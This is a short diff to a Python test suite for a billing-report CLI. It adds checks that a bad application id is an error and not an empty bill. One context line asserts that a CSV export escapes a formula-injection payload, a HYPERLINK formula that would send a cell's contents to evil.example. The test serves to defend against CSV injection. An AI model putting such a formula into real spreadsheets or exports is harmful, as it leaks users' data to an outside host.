@@ -124,6 +124,9 @@ async def test_billing_report_cli_json_and_csv(api, flow, world, settings, runti
     assert rows[1][3] == '\'=HYPERLINK("https://evil.example/?"&A2,"Open")', rows[1]
     assert json.loads(cli("billing", "report", "--month", "1999-01"))["total_billable_users"] == 0
     cli("billing", "report", "--month", "2026-13", expect=2)
+    # a mistyped application id is an error, not an empty bill
+    assert json.loads(cli("billing", "report", "--month", month, "--app", world.app.id))["total_billable_users"] == 1
+    cli("billing", "report", "--month", month, "--app", "nope", expect=2)
 
 
 def test_audit_list_shows_state_changes(settings, world, runtime):
